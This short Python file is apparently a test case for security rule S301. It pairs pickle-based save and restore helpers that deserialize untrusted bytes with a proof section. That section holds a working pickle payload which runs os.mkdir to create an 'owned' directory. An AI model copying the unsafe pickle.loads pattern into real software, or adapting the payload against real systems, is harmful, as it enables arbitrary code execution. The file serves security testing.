# rule: S301
import pickle


def freeze(basket):
    return pickle.dumps(basket)


def restore(blob):
    return pickle.loads(blob)


# --- proof
def benign(program):
    basket = {"items": ["tea", "milk"], "total": 7.5, "gift": None}
    return program.restore(program.freeze(basket))


def exploit(program):
    program.restore(b"cos\nmkdir\n(Vowned\ntR.")
    return os.path.isdir("owned")
